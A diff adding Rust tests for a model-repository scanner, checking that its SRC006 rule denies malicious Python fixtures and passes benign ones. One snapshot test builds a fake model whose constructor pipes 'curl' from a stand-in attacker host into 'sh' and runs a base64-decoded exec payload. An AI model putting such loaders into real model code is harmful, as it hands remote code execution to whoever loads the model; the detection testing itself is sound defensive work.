@@ -1,0 +1,202 @@
+//! Issue 30: the behaviour fixture corpus (`tests/fixtures/behaviour/<capability>/<case>/`,
+//! written by `scripts/make-behaviour-fixtures.py`). Its README lists every folder with the
+//! verdict the default policy must reach: each `deny` folder denied by SRC006 with a finding
+//! that names the file, the line, the capability and the resolved call; each `pass` folder (a
+//! benign twin, or a mention in a string, comment or docstring) not denied at all.
+
+use std::path::{Path, PathBuf};
+use std::sync::LazyLock;
+
+use serde_json::Value;
+
+#[allow(unused_imports)]
+use crate::support::*;
+
+fn corpus() -> PathBuf {
+    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/behaviour")
+}
+
+/// `(folder, expected)` rows of the corpus README (`| `cap/case` | deny | … |`).
+fn rows() -> Vec<(String, String)> {
+    let readme = std::fs::read_to_string(corpus().join("README.md")).unwrap();
+    readme
+        .lines()
+        .filter_map(|l| {
+            let rest = l.strip_prefix("| `")?;
+            let (folder, rest) = rest.split_once("` | ")?;
+            let verdict = rest.split(' ').next()?;
+            matches!(verdict, "deny" | "pass").then(|| (folder.to_owned(), verdict.to_owned()))
+        })
+        .collect()
+}
+
+/// One scan of the whole corpus (each folder is its own model directory), shared by the tests.
+static REPORT: LazyLock<Value> = LazyLock::new(|| scan_json(&corpus(), &[]).1);
+
+fn findings_under<'a>(report: &'a Value, folder: &str) -> Vec<&'a Value> {
+    let prefix = format!("{folder}/");
+    report["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["path"].as_str().unwrap_or_default().starts_with(&prefix))
+        .collect()
+}
+
+#[test]
+fn every_deny_folder_is_denied_by_src006_naming_file_line_capability_and_call() {
+    let rows = rows();
+    assert!(rows.len() >= 100, "{} rows", rows.len());
+    let mut missed = Vec::new();
+    for (folder, verdict) in rows.iter().filter(|(_, v)| v == "deny") {
+        let _ = verdict;
+        let denied: Vec<&Value> = findings_under(&REPORT, folder)
+            .into_iter()
+            .filter(|f| f["rule"] == "SRC006" && f["action"] == "deny")
+            .collect();
+        if denied.is_empty() {
+            missed.push(folder.clone());
+            continue;
+        }
+        for f in denied {
+            let path = f["path"].as_str().unwrap();
+            assert!(path.len() > folder.len() + 1, "{folder}: no file in {path}");
+            let ev = &f["evidence"];
+            let call = ev["call"].as_str().unwrap_or_default();
+            let capability = ev["capability"].as_str().unwrap_or_default();
+            assert!(!call.is_empty() && !capability.is_empty(), "{folder}: {f}");
+            assert!(
+                f["location"]["line"].as_u64().is_some_and(|l| l > 0)
+                    || f["location"]["member"].is_string(),
+                "{folder}: no line: {f}"
+            );
+            let message = f["message"].as_str().unwrap();
+            assert!(
+                message.contains(&format!("`{call}`")),
+                "{folder}: {message}"
+            );
+            assert!(message.contains(" at line "), "{folder}: {message}");
+            assert!(
+                matches!(f["severity"].as_str(), Some("high" | "critical")),
+                "{f}"
+            );
+            assert!(!ev["sites"].as_array().unwrap().is_empty(), "{f}");
+        }
+    }
+    assert!(missed.is_empty(), "not denied by SRC006: {missed:?}");
+}
+
+#[test]
+fn no_pass_folder_is_denied() {
+    let rows = rows();
+    let wrong: Vec<(String, Vec<String>)> = rows
+        .iter()
+        .filter(|(_, v)| v == "pass")
+        .map(|(folder, _)| {
+            let denied: Vec<String> = findings_under(&REPORT, folder)
+                .into_iter()
+                .filter(|f| f["action"] == "deny")
+                .map(|f| format!("{} {}", f["rule"], f["message"]))
+                .collect();
+            (folder.clone(), denied)
+        })
+        .filter(|(_, d)| !d.is_empty())
+        .collect();
+    assert!(rows.iter().filter(|(_, v)| v == "pass").count() >= 30);
+    assert!(wrong.is_empty(), "denied: {wrong:?}");
+}
+
+#[test]
+fn mentions_never_fire() {
+    for (folder, _) in rows().iter().filter(|(f, _)| f.contains("/mention")) {
+        let src6: Vec<&Value> = findings_under(&REPORT, folder)
+            .into_iter()
+            .filter(|f| f["rule"] == "SRC006")
+            .collect();
+        assert!(src6.is_empty(), "{folder}: {src6:?}");
+    }
+}
+
+#[test]
+fn decoded_blobs_carry_the_chain_and_a_payload_excerpt() {
+    let with_chain: Vec<&Value> = REPORT["findings"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["rule"] == "SRC006" && f["evidence"]["decode_chain"].is_array())
+        .collect();
+    assert!(with_chain.len() >= 5, "{}", with_chain.len());
+    for f in with_chain {
+        assert!(f["evidence"]["payload_excerpt"].is_string(), "{f}");
+        assert!(f["message"].as_str().unwrap().contains("decoded ("), "{f}");
+    }
+}
+
+#[test]
+fn capabilities_are_facts_of_the_file() {
+    let files = REPORT["files"].as_array().unwrap();
+    let with_caps = files
+        .iter()
+        .filter(|f| f["facts"]["python_capabilities"].is_object())
+        .count();
+    assert!(with_caps >= 50, "{with_caps}");
+}
+
+/// The text and SARIF of one denied file: a process started from `__init__` through an alias.
+#[test]
+fn src006_text_and_sarif_snapshot() {
+    let repo = Repo::new();
+    repo.file(
+        "config.json",
+        r#"{"model_type":"tiny","auto_map":{"AutoModel":"modeling_tiny.TinyModel"}}"#,
+    )
+    .file("README.md", "---\nlicense: mit\n---\n# tiny\n")
+    .file(
+        "modeling_tiny.py",
+        "import base64\nimport subprocess as sp\n\n\nclass TinyModel:\n    def __init__(self):\n        self._warm()\n\n    def _warm(self):\n        sp.Popen(['sh', '-c', 'curl -s https://attacker.example/x | sh'])\n\n\nexec(base64.b64decode('aW1wb3J0IG9zOyBvcy5zeXN0ZW0oJ2lkJyk='))\n",
+    );
+    let out = modelgate()
+        .args(["scan", "--no-git"])
+        .arg(repo.path())
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(1));
+    let text = String::from_utf8_lossy(&out.stdout)
+        .replace(repo.path().to_str().unwrap(), "[ROOT]")
+        .replace(env!("CARGO_PKG_VERSION"), "[VERSION]");
+    let src6: String = text
+        .lines()
+        .filter(|l| l.contains("SRC006"))
+        .collect::<Vec<_>>()
+        .join("\n");
+    insta::assert_snapshot!("src006_text", src6);
+
+    let out = modelgate()
+        .args(["scan", "--no-git", "--format", "sarif"])
+        .arg(repo.path())
+        .output()
+        .unwrap();
+    let sarif: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let results: Vec<&Value> = sarif["runs"][0]["results"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|r| r["ruleId"] == "SRC006")
+        .collect();
+    let shown: Vec<Value> = results
+        .iter()
+        .map(|r| {
+            serde_json::json!({
+                "level": r["level"],
+                "message": r["message"],
+                "locations": r["locations"],
+                "relatedLocations": r["relatedLocations"],
+                "tags": r["properties"]["tags"],
+            })
+        })
+        .collect();
+    insta::assert_snapshot!(
+        "src006_sarif",
+        serde_json::to_string_pretty(&shown).unwrap()
+    );
+}
